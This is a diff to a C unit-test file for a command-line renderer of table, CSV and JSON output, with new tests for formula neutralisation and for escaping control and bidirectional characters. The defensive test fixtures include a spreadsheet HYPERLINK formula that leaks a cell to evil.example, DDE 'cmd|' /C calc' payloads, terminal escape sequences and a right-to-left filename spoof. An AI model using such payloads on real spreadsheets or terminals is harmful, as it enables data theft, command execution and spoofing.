@@ -9,6 +9,7 @@
 #include <string.h>
 
 #include <cmocka.h>
+#include <jansson.h>
 
 #include "cli/cli_out.h"
 
@@ -137,11 +138,11 @@ static void test_table(void **state)
 	struct cli_result r = {0};
 	sample(&r);
 	char *out = render(&r, CLI_FMT_TABLE);
-	assert_string_equal(out,
-	                    "name                       n  ratio  note\n"
-	                    "ana                        5    1.5  -\n"
-	                    "b\xc3\xa9?[31m                  -12      -  say \"hi\", then??leave\n"
-	                    "??       9223372036854775807    0.1\n");
+	assert_string_equal(out, "name                          n  ratio  note\n"
+	                         "ana                           5    1.5  -\n"
+	                         "b\xc3\xa9\\x1b[31m                  -12      -  "
+	                         "say \"hi\", then\\x0d\\x0aleave\n"
+	                         "\\xff\\x01    9223372036854775807    0.1\n");
 	free(out);
 	cli_result_free(&r);
 	assert_int_equal(r.n, 0);
@@ -195,10 +196,11 @@ static void test_csv(void **state)
 	struct cli_result r = {0};
 	sample(&r);
 	char *out = render(&r, CLI_FMT_CSV);
-	assert_string_equal(out, "name,n,ratio,note\r\n"
-	                         "ana,5,1.5,\r\n"
-	                         "b\xc3\xa9\x1b[31m,-12,,\"say \"\"hi\"\", then\r\nleave\"\r\n"
-	                         "\xff\x01,9223372036854775807,0.1,\r\n");
+	assert_string_equal(out,
+	                    "name,n,ratio,note\r\n"
+	                    "ana,5,1.5,\r\n"
+	                    "b\xc3\xa9\\x1b[31m,-12,,\"say \"\"hi\"\", then\\x0d\\x0aleave\"\r\n"
+	                    "\\xff\\x01,9223372036854775807,0.1,\r\n");
 	free(out);
 	cli_result_free(&r);
 }
@@ -237,9 +239,229 @@ static void test_json_specials(void **state)
 	                    "[\n  {\"k\\\"ey\":\"back\\\\slash\\ttab\\b\\f/\",\"v\":null}\n]\n");
 	free(out);
 	out = render(&r, CLI_FMT_CSV);
-	assert_string_equal(out, "\"k\"\"ey\",v\r\nback\\slash\ttab\b\f/,\r\n");
+	assert_string_equal(out, "\"k\"\"ey\",v\r\nback\\slash\\x09tab\\x08\\x0c/,\r\n");
 	free(out);
 	cli_result_free(&r);
+}
+
+/* One text column "c" of one row holding s[0..len-1], rendered in fmt. */
+static char *render_one(const char *s, size_t len, enum cli_format fmt)
+{
+	static const char *const cols[] = {"c"};
+	struct cli_result r = {0};
+	char err[128];
+	struct cli_section *sec = cli_result_add(&r, "x", NULL, 1, cols, err, sizeof(err));
+	assert_non_null(sec);
+	struct cli_cell *row = cli_section_add_row(sec, err, sizeof(err));
+	assert_non_null(row);
+	assert_int_equal(cli_cell_set_text(&row[0], s, len), 0);
+	char *out = render(&r, fmt);
+	cli_result_free(&r);
+	return out;
+}
+
+/* Strings with their length, so that a NUL can be part of one. */
+#define S(lit) lit, sizeof(lit) - 1
+
+/*
+ * Issue 12, finding 5: text a spreadsheet would run as a formula gets a
+ * leading "'" and quotes; numbers, also negative ones and the report's
+ * changes, stay numbers; control characters are escaped, never written.
+ */
+static void test_csv_neutralised(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *in;
+		size_t len;
+		const char *field;
+	} cases[] = {
+	        {S("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
+	         "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""},
+	        {S("@SUM(1+1)*cmd|' /C calc'!A0"), "\"'@SUM(1+1)*cmd|' /C calc'!A0\""},
+	        {S("+ADMIN"), "\"'+ADMIN\""},
+	        {S("-2+3+cmd|' /C calc'!A0"), "\"'-2+3+cmd|' /C calc'!A0\""},
+	        {S("=1"), "\"'=1\""},
+	        {S("\t=1"), "\"'\\x09=1\""},
+	        {S("\r=1"), "\"'\\x0d=1\""},
+	        {S("+"), "\"'+\""},
+	        {S("-1e5x"), "\"'-1e5x\""},
+	        {S("--1"), "\"'--1\""},
+	        /* numbers as text: nothing to compute */
+	        {S("-"), "-"},
+	        {S("-3"), "-3"},
+	        {S("+12.5%"), "+12.5%"},
+	        {S("-100.0%"), "-100.0%"},
+	        {S("-.5"), "-.5"},
+	        {S("-1.5e+20"), "-1.5e+20"},
+	        /* only the first character counts */
+	        {S("a=b"), "a=b"},
+	        {S(" =1"), " =1"},
+	        {S("ana@acme.example"), "ana@acme.example"},
+	        /* quoting: , ; and " */
+	        {S("x,y"), "\"x,y\""},
+	        {S("x;=1"), "\"x;=1\""},
+	        {S("say \"hi\""), "\"say \"\"hi\"\"\""},
+	        /* control characters and invalid UTF-8 escaped; newlines too */
+	        {S("a\x1b[2Jb"), "a\\x1b[2Jb"},
+	        {S("back\bspace"), "back\\x08space"},
+	        {S("two\r\nlines"), "two\\x0d\\x0alines"},
+	        {S("nul\0x"), "nul\\x00x"},
+	        {S("c1\xc2\x9b[2J del\x7f"), "c1\\x9b[2J del\\x7f"},
+	        {S("\xff\xfe"), "\\xff\\xfe"},
+	        /* invisible characters are data in CSV */
+	        {S("ab\xe2\x80\xae"
+	           "cd"),
+	         "ab\xe2\x80\xae"
+	         "cd"},
+	        {S(""), ""},
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		char *out = render_one(cases[i].in, cases[i].len, CLI_FMT_CSV);
+		char want[256];
+		snprintf(want, sizeof(want), "c\r\n%s\r\n", cases[i].field);
+		if (strcmp(out, want) != 0)
+			fail_msg("case %zu: got \"%s\", want \"%s\"", i, out, want);
+		free(out);
+	}
+
+	/* integer and real cells stay numbers, negative ones included */
+	static const char *const cols[] = {"i", "d", "t"};
+	struct cli_result r = {0};
+	char err[128];
+	struct cli_section *sec = cli_result_add(&r, "x", NULL, 3, cols, err, sizeof(err));
+	assert_non_null(sec);
+	struct cli_cell *row = cli_section_add_row(sec, err, sizeof(err));
+	assert_non_null(row);
+	cli_cell_set_int(&row[0], INT64_MIN);
+	cli_cell_set_real(&row[1], -0.5);
+	set_text(&row[2], "-0.5");
+	char *out = render(&r, CLI_FMT_CSV);
+	assert_string_equal(out, "i,d,t\r\n-9223372036854775808,-0.5,-0.5\r\n");
+	free(out);
+	cli_result_free(&r);
+}
+
+/*
+ * Issue 12, finding 7: in the table, control characters and invalid UTF-8
+ * show as "\xHH", invisible and bidirectional characters as "<U+XXXX>",
+ * and the columns stay aligned (an escape takes as many columns as it has
+ * bytes; any other character one).
+ */
+static void test_table_escapes(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *in;
+		size_t len;
+		const char *shown;
+	} cases[] = {
+	        {S("plain"), "plain"},
+	        {S("caf\xc3\xa9"), "caf\xc3\xa9"},
+	        {S("a\x1b[2Jb"), "a\\x1b[2Jb"},
+	        {S("x\by"), "x\\x08y"},
+	        {S("tab\there"), "tab\\x09here"},
+	        {S("c1\xc2\x9b"), "c1\\x9b"},
+	        {S("\xff"), "\\xff"},
+	        {S("admin\xe2\x80\xae"
+	           "gnp.exe"),
+	         "admin<U+202E>gnp.exe"},
+	        {S("\xe2\x81\xa6"
+	           "r\xe2\x81\xa9"),
+	         "<U+2066>r<U+2069>"},
+	        {S("a\xe2\x80\x8b"
+	           "b\xe2\x80\x8d"
+	           "c"),
+	         "a<U+200B>b<U+200D>c"},
+	        {S("\xef\xbb\xbf"
+	           "bom\xe2\x81\xa0"),
+	         "<U+FEFF>bom<U+2060>"},
+	        {S("\xe2\x80\x8e\xe2\x80\x8f\xd8\x9c"), "<U+200E><U+200F><U+061C>"},
+	};
+	size_t n = sizeof(cases) / sizeof(cases[0]);
+	static const char *const cols[] = {"text", "n"};
+	struct cli_result r = {0};
+	char err[128];
+	struct cli_section *sec = cli_result_add(&r, "x", NULL, 2, cols, err, sizeof(err));
+	assert_non_null(sec);
+	size_t width = 4; /* "text" */
+	for (size_t i = 0; i < n; i++) {
+		struct cli_cell *row = cli_section_add_row(sec, err, sizeof(err));
+		assert_non_null(row);
+		assert_int_equal(cli_cell_set_text(&row[0], cases[i].in, cases[i].len), 0);
+		cli_cell_set_int(&row[1], (int64_t)i);
+		/* the columns of what is shown: one per UTF-8 character */
+		size_t w = 0;
+		for (const char *p = cases[i].shown; *p; p++)
+			w += ((unsigned char)*p & 0xc0) != 0x80;
+		if (w > width)
+			width = w;
+	}
+	assert_int_equal(width, 24); /* <U+200E><U+200F><U+061C> */
+	char *want = malloc(4096), *p = want;
+	assert_non_null(want);
+	p += sprintf(p, "%-*s   n\n", (int)width, "text");
+	for (size_t i = 0; i < n; i++) {
+		size_t w = 0;
+		for (const char *q = cases[i].shown; *q; q++)
+			w += ((unsigned char)*q & 0xc0) != 0x80;
+		p += sprintf(p, "%s%*s%2zu\n", cases[i].shown, (int)(width - w + 2), "", i);
+	}
+	char *out = render(&r, CLI_FMT_TABLE);
+	assert_string_equal(out, want);
+	free(out);
+	free(want);
+	cli_result_free(&r);
+
+	/* titles and footers too */
+	struct cli_section *t = cli_result_add(&r, "x", "ti\x1btle\xe2\x80\xae", 1,
+	                                       (const char *const[]){"c"}, err, sizeof(err));
+	assert_non_null(t);
+	assert_int_equal(cli_section_set_footer(t, "foot\x07"), 0);
+	out = render(&r, CLI_FMT_TABLE);
+	assert_string_equal(out, "ti\\x1btle<U+202E>\nc\nfoot\\x07\n");
+	free(out);
+	cli_result_free(&r);
+}
+
+/*
+ * JSON: DEL, C1, invisible and bidirectional characters \u-escaped as well
+ * as the C0 controls (a terminal shows the escape; a JSON reader gets the
+ * same text back).
+ */
+static void test_json_escapes(void **state)
+{
+	(void)state;
+	static const struct {
+		const char *in;
+		size_t len;
+		const char *string;
+	} cases[] = {
+	        {S("a\x1b[2Jb\x7f"), "\"a\\u001b[2Jb\\u007f\""},
+	        {S("c1\xc2\x9b[2J\xc2\x85"), "\"c1\\u009b[2J\\u0085\""},
+	        {S("admin\xe2\x80\xae"
+	           "gnp.exe"),
+	         "\"admin\\u202egnp.exe\""},
+	        {S("z\xe2\x80\x8bw\xef\xbb\xbf\xe2\x80\xa8"), "\"z\\u200bw\\ufeff\\u2028\""},
+	        {S("tag\xf3\xa0\x80\x81"), "\"tag\\udb40\\udc01\""},
+	        {S("caf\xc3\xa9 \xf0\x9f\x98\x80"), "\"caf\xc3\xa9 \xf0\x9f\x98\x80\""},
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		char *out = render_one(cases[i].in, cases[i].len, CLI_FMT_JSON);
+		char want[256];
+		snprintf(want, sizeof(want), "[\n  {\"c\":%s}\n]\n", cases[i].string);
+		if (strcmp(out, want) != 0)
+			fail_msg("case %zu: got \"%s\", want \"%s\"", i, out, want);
+		/* and it reads back as the text itself */
+		json_error_t je;
+		json_t *doc = json_loads(out, 0, &je);
+		assert_non_null(doc);
+		json_t *v = json_object_get(json_array_get(doc, 0), "c");
+		assert_int_equal(json_string_length(v), cases[i].len);
+		assert_memory_equal(json_string_value(v), cases[i].in, cases[i].len);
+		json_decref(doc);
+		free(out);
+	}
 }
 
 static void test_two_sections(void **state)
@@ -367,6 +589,9 @@ int main(void)
 	        cmocka_unit_test(test_csv),
 	        cmocka_unit_test(test_json),
 	        cmocka_unit_test(test_json_specials),
+	        cmocka_unit_test(test_csv_neutralised),
+	        cmocka_unit_test(test_table_escapes),
+	        cmocka_unit_test(test_json_escapes),
 	        cmocka_unit_test(test_two_sections),
 	        cmocka_unit_test(test_empty),
 	        cmocka_unit_test(test_bounds),
